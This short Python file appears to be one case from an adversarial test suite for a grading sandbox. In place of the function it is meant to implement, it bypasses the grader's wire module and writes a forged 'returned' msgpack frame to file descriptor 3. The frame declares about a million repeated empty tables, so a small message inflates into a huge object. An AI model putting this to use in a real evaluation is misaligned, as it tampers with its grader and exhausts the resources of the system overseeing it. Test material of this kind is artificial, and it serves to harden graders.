# family: the protocol
# success: a small frame of many empty tables is a large object
# tiers: A B
import os
import struct
import sys

import msgspec

wire = sys.modules["grader.sandbox.inside.wire"]


def send(message):
    payload = message if isinstance(message, bytes) else msgspec.msgpack.encode(message)
    os.write(3, struct.pack("<I", len(payload)) + payload)


def double(x):
    unit = b"\x93\xa1d\x90\x90"
    n = 1 << 20
    head = b"\x84\xa4type\xa8returned\xa5index\x00\xa5value\x93\xa1l\xa4list\xdd" + struct.pack(">I", n)
    send(head + unit * n + b"\xa8warnings\x90")
    return None
